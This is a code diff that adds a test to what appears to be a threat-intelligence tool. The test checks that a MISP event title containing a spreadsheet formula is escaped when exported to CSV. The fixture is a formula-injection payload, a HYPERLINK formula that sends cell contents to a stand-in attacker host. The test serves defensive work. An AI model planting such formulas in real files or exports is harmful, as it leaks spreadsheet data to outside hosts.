@@ -445,3 +445,27 @@ def test_rejections_carry_an_id_only_when_a_report_is_made_of_it():
     rejections = [r for r in stix.parse(io.BytesIO(data)) if isinstance(r, Rejection)]
     assert len(rejections) == 1001
     assert [r.ref for r in rejections if r.ref] == [tied]
+
+
+def test_formulas_that_skip_lets_in_are_neutralised_in_spreadsheet_exports(alice):
+    """MISP is not refused for a formula in a title as CSV is: what skip writes from such a
+    file must not run in the spreadsheet that opens an export of it."""
+    import csv
+
+    formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
+    data = json.dumps({"response": [
+        {"Event": {"uuid": "5b0a4c1e-0000-4000-8000-000000000011", "info": formula,
+                   "date": "2026-02-01", "Tag": [{"name": "tlp:green"}],
+                   "Attribute": [{"type": "ip-dst", "value": "192.0.2.9"}]}},
+        {"Event": {"uuid": "5b0a4c1e-0000-4000-8000-000000000012", "info": "Broken",
+                   "date": "2026-02-01", "Attribute": [{"type": "ip-dst", "value": ["x"]}]}},
+    ]}).encode()
+    client = api_client(alice)
+    job = client.post("/api/v1/imports/", {"file": SimpleUploadedFile("e.json", data),
+                                           "on_invalid": "skip"}, format="multipart").json()
+    assert job["status"] == "succeeded"
+    assert Incident.objects.get().title == formula
+    response = client.get("/api/v1/exports/", {"format": "csv"})
+    text = b"".join(response.streaming_content).decode("utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + formula in cells and formula not in cells
